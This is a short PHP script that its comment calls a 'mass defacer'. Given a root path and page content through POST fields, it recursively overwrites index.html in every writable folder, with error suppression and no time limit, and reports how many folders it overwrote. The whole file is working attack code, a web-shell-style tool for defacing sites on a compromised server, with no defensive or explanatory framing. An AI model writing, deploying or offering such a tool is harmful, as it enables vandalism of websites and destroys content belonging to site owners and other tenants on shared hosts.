<?php
// Mass defacer: the crew's page written over the front page of every folder under the given root.
@set_time_limit(0);
function deface($dir, $page, &$n) {
    foreach ((array) @scandir($dir) as $e) {
        if ($e === '.' || $e === '..') { continue; }
        $p = $dir . '/' . $e;
        if (is_dir($p) && is_writable($p)) {
            if (@file_put_contents($p . '/index.html', $page) !== false) { $n++; }
            deface($p, $page, $n);
        }
    }
}
$n = 0;
if (isset($_POST['root'], $_POST['page'])) {
    deface($_POST['root'], $_POST['page'], $n);
    echo $n . ' folders done';
}
